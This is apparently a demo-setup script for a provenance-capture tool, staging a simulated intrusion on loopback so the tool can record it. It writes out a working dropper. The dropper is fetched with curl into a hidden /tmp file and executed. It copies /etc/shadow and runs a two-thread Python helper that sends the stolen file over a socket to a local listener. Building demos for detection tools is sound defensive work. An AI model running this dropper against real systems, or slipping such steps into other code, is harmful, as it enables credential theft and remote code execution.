#!/usr/bin/env bash
# Stages a small intrusion on this machine and records it with `provscope capture
# --track` into assets/demo-capture.w3c.log, the recording `provscope demo` opens.
# Needs root (the capture does). Everything stays on loopback and under a temp dir.
#
# The story (README, "The demo"):
#   1. a user's shell fetches http://127.0.0.1:8731/update.sh with curl into /tmp/.x
#   2. chmod +x /tmp/.x, then runs it
#   3. the payload copies /etc/shadow to /tmp/.cache-x/s.bak
#   4. it drops a two-thread python helper, sync.py: thread "collector" reads the copy
#      into memory,
#      thread "uploader" sends that memory to 127.0.0.1:8732 (the only link between the
#      two threads is their process's shared state)
#   5. the payload renames itself to /tmp/.cache-x/.x and leaves
set -euo pipefail
cd "$(dirname "$0")/../.."
PY=/usr/bin/python3
out=${1:-assets/demo-capture.w3c.log}
work=$(mktemp -d /tmp/provscope-demo.XXXXXX)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT

mkdir -p "$work/www"
cat > "$work/www/update.sh" <<'PAYLOAD'
#!/bin/sh
# "update": a dropper
mkdir -p /tmp/.cache-x
cp /etc/shadow /tmp/.cache-x/s.bak
cat > /tmp/.cache-x/sync.py <<'PY'
import socket, threading
stash = {}
def collector():
    with open("/tmp/.cache-x/s.bak", "rb") as f:
        stash["loot"] = f.read()
def uploader():
    s = socket.create_connection(("127.0.0.1", 8732))
    s.sendall(stash["loot"])
    s.close()
a = threading.Thread(target=collector, name="collector"); a.start(); a.join()
b = threading.Thread(target=uploader, name="uploader"); b.start(); b.join()
PY
/usr/bin/python3 -S /tmp/.cache-x/sync.py
mv /tmp/.x /tmp/.cache-x/.x
PAYLOAD

# The attacker's side, outside the capture: a web server and a listener.
(cd "$work/www" && exec $PY -S -m http.server 8731 --bind 127.0.0.1 >/dev/null 2>&1) &
$PY -S -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 8732)); s.listen(1)
c, _ = s.accept(); c.recv(1 << 16); c.close()
' &
sleep 1

cat > "$work/victim.sh" <<'VICTIM'
cd /tmp
curl -s -o /tmp/.x http://127.0.0.1:8731/update.sh
chmod +x /tmp/.x
/tmp/.x
VICTIM

rm -rf /tmp/.x /tmp/.cache-x
cargo build --release --quiet
./target/release/provscope capture --track -o "$out" -- /bin/sh "$work/victim.sh"
rm -rf /tmp/.x /tmp/.cache-x
ls -la "$out"
./target/release/provscope stats "$out" | head -8
